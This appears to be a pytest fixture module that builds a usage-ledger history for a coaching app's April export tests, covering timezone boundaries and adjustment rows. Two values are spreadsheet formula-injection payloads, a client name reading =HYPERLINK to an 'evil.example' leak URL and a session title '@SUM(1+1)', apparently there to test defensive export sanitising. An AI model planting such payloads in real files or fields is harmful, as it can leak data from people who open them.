"""A small, hand-made usage history for Alice (pro plan, Asia/Taipei), frozen at 2026-04-20 12:00 local.

April 2026 (local) holds exactly four ledger rows:

| created (UTC)        | local            | kind          | session    | client      | seconds | minutes |
|----------------------|------------------|---------------|------------|-------------|---------|---------|
| 2026-03-31 17:30     | 04-01 01:30      | original      | 目標設定   | 王小明      | 3600    | 60.00   |
| 2026-04-02 02:00     | 04-02 10:00      | original      | @SUM(1+1)  | =HYPERLINK… | 1800    | 30.00   |
| 2026-04-03 03:00     | 04-03 11:00      | adjustment    | @SUM(1+1)  | =HYPERLINK… | -120    | -2.00   |
| 2026-04-05 04:00     | 04-05 12:00      | retry_failed  | 目標設定   | 王小明      | 600     | 10.00   |

and two March rows that an April export must leave out: 2026-03-31 15:59 UTC (23:59 local on
31 March, one minute before the boundary) and 2026-03-15.
"""

import datetime
from decimal import Decimal

import pytest
import time_machine

from coaching.models import Plan, UsageLog
from tests.factories import ClientFactory, CoachingSessionFactory, UsageLogFactory

UTC = datetime.UTC
NOW = datetime.datetime(2026, 4, 20, 4, 0, tzinfo=UTC)  # 12:00 in Taipei
APRIL = {"from": "2026-04-01", "to": "2026-04-30"}
HOSTILE_CLIENT = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.fixture
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield NOW


def _at(*args) -> datetime.datetime:
    return datetime.datetime(*args, tzinfo=UTC)


@pytest.fixture
def history(coach, frozen):
    """Alice's sessions and ledger (see the module docstring); returns the records by name."""
    wang = ClientFactory(coach=coach, name="王小明")
    hostile = ClientFactory(coach=coach, name=HOSTILE_CLIENT)
    goal = CoachingSessionFactory(
        coach=coach,
        client=wang,
        title="目標設定",
        session_date=datetime.date(2026, 4, 1),
        duration_seconds=3600,
        fee_amount=Decimal("2000"),
        fee_currency="TWD",
        processing_started_at=_at(2026, 3, 31, 17, 0),
        processing_finished_at=_at(2026, 3, 31, 17, 30),
        created_at=_at(2026, 3, 31, 16, 50),
    )
    formula = CoachingSessionFactory(
        coach=coach,
        client=hostile,
        title="@SUM(1+1)",
        session_date=datetime.date(2026, 4, 2),
        duration_seconds=1800,
        fee_amount=Decimal("50"),
        fee_currency="USD",
        processing_started_at=_at(2026, 4, 2, 1, 50),
        processing_finished_at=_at(2026, 4, 2, 2, 0),
        created_at=_at(2026, 4, 2, 1, 45),
    )
    march = CoachingSessionFactory(
        coach=coach,
        client=wang,
        title="Follow-up",
        session_date=datetime.date(2026, 3, 15),
        duration_seconds=2700,
        processing_started_at=_at(2026, 3, 15, 4, 50),
        processing_finished_at=_at(2026, 3, 15, 5, 0),
        created_at=_at(2026, 3, 15, 4, 45),
    )

    def log(session, kind, seconds, at, cost="0.1600"):
        return UsageLogFactory(
            user=coach,
            session=session,
            client=session.client,
            kind=kind,
            seconds=seconds,
            created_at=at,
            provider_cost_usd=Decimal(cost),
        )

    rows = {
        "first": log(goal, UsageLog.Kind.ORIGINAL, 3600, _at(2026, 3, 31, 17, 30), "0.9600"),
        "formula": log(formula, UsageLog.Kind.ORIGINAL, 1800, _at(2026, 4, 2, 2, 0), "0.4800"),
        "adjustment": log(formula, UsageLog.Kind.ADJUSTMENT, -120, _at(2026, 4, 3, 3, 0), "0"),
        "retry": log(goal, UsageLog.Kind.RETRY_FAILED, 600, _at(2026, 4, 5, 4, 0), "0.1600"),
        "march_last_minute": log(march, UsageLog.Kind.ORIGINAL, 60, _at(2026, 3, 31, 15, 59), "0.0200"),
        "march": log(march, UsageLog.Kind.ORIGINAL, 2700, _at(2026, 3, 15, 5, 0), "0.7200"),
    }
    return {"clients": (wang, hostile), "sessions": (goal, formula, march), "logs": rows}


def set_plan(user, code: str) -> None:
    user.plan = Plan.objects.get(code=code)
    user.save(update_fields=["plan"])
